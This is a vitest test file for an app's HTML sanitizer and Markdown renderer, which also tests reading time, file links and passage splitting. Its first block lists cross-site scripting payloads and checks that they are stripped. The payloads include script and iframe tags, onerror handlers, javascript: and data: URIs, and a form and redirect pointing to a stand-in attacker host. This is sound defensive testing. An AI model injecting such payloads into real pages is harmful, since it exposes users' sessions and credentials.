import { describe, expect, it } from 'vitest';
import { filesIn, withFileLinks } from './file-paths.ts';
import { htmlOf, readingMinutes, safeHtml, textOf } from './html.ts';
import { passagesOf } from './passages.ts';

describe('what a text may not do', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://a.example/p.png" onload="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<p onclick="alert(1)" style="position:fixed">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<form action="https://evil.example"><input name=password></form>',
    '<style>body{background:url(javascript:alert(1))}</style>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '[x](javascript:alert(1))',
    '![x](javascript:alert(1))',
    '[x](<java&#115;cript:alert(1)>)',
    '<https://a.example/" onmouseover="alert(1)>',
  ])('%s', (payload) => {
    for (const html of [safeHtml(payload), htmlOf(payload), htmlOf(`**x** ${payload}`)]) {
      const tags = html.match(/<[^>]*>/g)?.join('') ?? '';
      expect(tags).not.toMatch(
        /<\/?(script|style|iframe|object|embed|svg|math|form|input|meta|base|link|noscript)\b/i,
      );
      expect(tags).not.toMatch(/\son\w+\s*=|\sstyle=|(java|vb)script:|data:/i);
    }
  });

  it('shows pictures from https and from our own files only', () => {
    expect(
      safeHtml('<img src="http://a.example/p.png"><img src="//a.example/p.png"><img src="/x.png">'),
    ).toBe('');
    expect(safeHtml('<img src="/api/v1/files/7/content" alt="A map">')).toContain('/api/v1/files/7/content');
    expect(htmlOf('![A map](https://a.example/map.png)')).toContain('src="https://a.example/map.png"');
  });

  it('opens links elsewhere, without a way back', () => {
    expect(htmlOf('[dictionary](https://a.example/)')).toContain('rel="noopener noreferrer nofollow"');
  });
});

describe('Markdown', () => {
  it('keeps headings below the page’s own, lists, tables, code and quotes', () => {
    const html = htmlOf('# Rooms\n\n1. one\n2. two\n\n> said\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n');
    for (const tag of [
      '<h2>Rooms</h2>',
      '<ol>',
      '<blockquote>',
      '<code>code</code>',
      '<table>',
      '<td>2</td>',
    ])
      expect(html).toContain(tag);
    expect(html).not.toContain('<h1');
  });

  it('reads H<sub>2</sub>O and x<sup>2</sup>', () => {
    expect(htmlOf('H<sub>2</sub>O, x<sup>2</sup>')).toBe('<p>H<sub>2</sub>O, x<sup>2</sup></p>');
  });
});

it('counts 130 words a minute, at least one', () => {
  expect(readingMinutes('')).toBe(1);
  expect(readingMinutes(`<p>${'word '.repeat(130)}</p>`)).toBe(1);
  expect(readingMinutes(`<p>${'word '.repeat(131)}</p>`)).toBe(2);
});

it('reads text with what stood between tags', () => {
  const html = '<h2>Rooms &amp; doors</h2><p>One <em>room</em>.<br>5 &lt; 6</p><ul><li>a</li><li>b</li></ul>';
  expect(textOf(html)).toBe('# Rooms & doors\nOne room.\n5 < 6\na\nb');
  expect(textOf('<table><tr><th>I</th><td>am</td></tr><tr><th>he</th><td>is</td></tr></table>')).toBe(
    'I — am\nhe — is',
  );
});

it('finds our files, not those of others that look like them', () => {
  const text =
    '![a](/api/v1/files/3/content) <img src="/api/v1/files/4/content"> https://x.example/api/v1/files/5/content';
  expect(filesIn(text)).toEqual([3, 4]);
  expect(withFileLinks(text, (id) => `L${String(id)}`)).toBe(
    '![a](L3) <img src="L4"> https://x.example/api/v1/files/5/content',
  );
});

describe('passages', () => {
  const sentence = `${'Word '.repeat(29)}end.`;
  it('are a few sentences of at most 400 characters', () => {
    const found = passagesOf(Array.from({ length: 6 }, () => sentence).join(' '), 'en');
    expect(found).toHaveLength(3);
    expect(Math.max(...found.map(({ length }) => length))).toBeLessThanOrEqual(400);
    expect(found.join(' ').match(/end\./g)).toHaveLength(6);
  });
  it('never reach across a heading', () => {
    expect(passagesOf('One.\n# Two\nThree. Four.', 'en')).toEqual(['One.', 'Three. Four.']);
  });
  it('cut a sentence that is too long between words', () => {
    const found = passagesOf(`${'word '.repeat(200)}end.`, 'ru');
    expect(found).toHaveLength(3);
    expect(found.join(' ')).toBe(`${'word '.repeat(200)}end.`);
    expect(passagesOf('я'.repeat(900), 'ru').map(({ length }) => length)).toEqual([400, 400, 100]);
  });
});
